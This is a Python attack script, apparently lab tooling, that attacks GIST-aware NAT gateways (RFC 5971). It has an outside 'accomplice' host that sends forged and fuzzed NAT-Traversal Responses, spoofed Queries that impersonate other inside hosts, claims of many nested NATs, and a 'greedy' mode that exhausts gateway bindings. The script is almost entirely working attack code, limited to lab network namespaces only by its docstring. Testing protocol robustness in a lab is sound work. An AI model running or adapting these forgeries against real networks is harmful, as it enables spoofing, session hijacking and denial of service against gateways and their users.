#!/usr/bin/env python3
"""Forged NAT-Traversal objects and greedy hosts, against GIST-aware NAT gateways (RFC 5971 section 7.2).

    gist_nat.py KIND ARGUMENT ...

The kinds are the functions at the end. It runs in the network namespaces of the lab only: it needs raw sockets, and the port
of GIST.
"""

import socket
import struct
import sys
import time

import attack
from attack import GIST, PING, QOS, QUERY, RESPONSE, UDP, gist, ip, nli, packet, rng, udp

MRI, SESSION, NLI, QUERY_COOKIE, NAT = 0, 1, 2, 5, 7
REPLY = 0x40  # R: an answer is asked for
SCOPED = 0x80  # S: the source of the packet is the node's own address
UPSTREAM = 0x20  # D, in the last octet of the MRI's flags


def flow(src, sport, dst, dport):
    """The MRI of a flow of UDP."""
    return struct.pack("!BxH4s4sBBBxHH", 0, 0x48C0, ip(src), ip(dst), 32, 32, UDP, sport, dport)


def nat(mri, entries):
    """The value of a NAT-Traversal object that lists the NLI."""
    octets = struct.pack("!BBBx", len(mri) // 4, 1, len(entries)) + mri + struct.pack("!HH", NLI, 0)
    for entry in entries:
        octets += struct.pack("!H", len(entry)) + entry + b"\0" * (-(2 + len(entry)) % 4)
    return octets


def entries_of(value):
    """The original MRI and the entries of a NAT-Traversal object."""
    words, types, count = value[0], value[1], value[2]
    at, entries = 4 + words * 4 + (types + types % 2) * 2, []
    for _ in range(count):
        (length,) = struct.unpack("!H", value[at : at + 2])
        entries.append(value[at + 2 : at + 2 + length])
        at += (2 + length + 3) // 4 * 4
    return value[4 : 4 + words * 4], entries


def objects_of(octets):
    """The objects of a message behind the magic number."""
    found, at = {}, 12
    while at + 4 <= len(octets):
        kind, words = struct.unpack("!HH", octets[at : at + 4])
        found[kind & 0xFFF] = octets[at + 4 : at + 4 + (words & 0xFFF) * 4]
        at += 4 + (words & 0xFFF) * 4
    return found


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def query(own, far, sport, dport, entries=(), session=None, node=None):
    """A Query of this node for a flow of its own, which has passed NATs with these entries. It may name another node (S=0)."""
    mri = flow(own, sport, far, dport)
    objects = [(NAT, nat(mri, entries))] if entries else []
    objects += [(MRI, mri), (SESSION, session or rng.randbytes(16)), (NLI, nli(ip(node or own), b"evil"))]
    objects.append((QUERY_COOKIE, rng.randbytes(8)))
    octets = gist(QUERY, objects, PING, REPLY if node else REPLY | SCOPED)
    return packet(ip(own), ip(far), UDP, udp(octets), alert=True)


class Accomplice:
    """A host outside that answers the next Query of a host inside."""

    def __init__(self, own):
        self.own = ip(own)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("", GIST))
        self.socket.settimeout(30)
        octets, self.peer = self.socket.recvfrom(4096)
        self.asked = objects_of(octets)
        self.original, (self.entry,) = entries_of(self.asked[NAT])

    def respond(self, entries, at=None, value=None, **changed):
        """A Response with these entries: the true one, but for what is changed."""
        mri = bytearray(self.asked[MRI])
        mri[3] ^= UPSTREAM
        objects = [
            (NAT, nat(self.original, entries) if value is None else value),
            (MRI, bytes(mri)),
            (SESSION, changed.get("session", self.asked[SESSION])),
            (NLI, nli(self.own, b"evil")),
            (QUERY_COOKIE, changed.get("cookie", self.asked[QUERY_COOKIE])),
        ]
        octets = gist(RESPONSE, objects, changed.get("nslp", PING), SCOPED, 0)
        self.socket.sendto(octets, (at or self.peer[0], self.peer[1]))


# The kinds.


def ask(own, far):
    """A host inside signals to an accomplice outside, until it is ended."""
    sender, session = raw(), rng.randbytes(16)
    print("started", flush=True)
    while True:
        sender.sendto(query(own, far, 4000, 5000, session=session), (far, 0))
        time.sleep(0.2)


def forge(own, other, *hosts):
    """The accomplice outside answers with what no gateway made, or another one, or this one for another Query. It sends the same to
    hosts inside, whose addresses it knows."""
    far = Accomplice(own)
    entry = far.entry
    for host in hosts:
        far.respond([entry], at=host)
        far.respond([rng.randbytes(30)], at=host)
        raw().sendto(query(own, host, 4000, 5000), (host, 0))
    for at in range(len(entry)):
        far.respond([entry[:at] + bytes([entry[at] ^ 1]) + entry[at + 1 :]])
    for length in (0, 1, len(entry) - 1, len(entry), len(entry) + 1, 255):
        far.respond([rng.randbytes(length)])
    far.respond([entry], session=rng.randbytes(16))
    far.respond([entry], nslp=QOS)
    far.respond([entry], cookie=rng.randbytes(8))
    far.respond([entry], at=other)
    far.respond([entry] + [b"\1\1"] * 254)
    far.respond([b"\1\1"] * 255, at=other)
    value = nat(far.original, [entry])
    far.respond([], value=value[:2] + b"\xff" + value[3:])
    far.respond([], value=b"\xff" + value[1:])
    print("forged")


def answer(own):
    """The accomplice outside sends the true Response, a hundred times."""
    far = Accomplice(own)
    for _ in range(100):
        far.respond([far.entry])
    print("answered")


def nested(own, far, depth):
    """A Query that has passed a number of NATs, as it says."""
    raw().sendto(query(own, far, 4001, 5000, [b"\1\1"] * int(depth)), (far, 0))


def naming(own, far, host):
    """A Query for a flow of this host that names another host inside, as if that host had asked for it."""
    raw().sendto(query(own, far, 4002, 5000, node=host), (far, 0))


def greedy(own, far, count):
    """A host inside asks for as many bindings as it can."""
    sender = raw()
    for number in range(int(count)):
        sender.sendto(query(own, far, 10000 + number, 5000), (far, 0))
        time.sleep(0.002)


def main():
    attack.rng.seed()
    kind, *rest = sys.argv[1:]
    globals()[kind](*rest)


main()
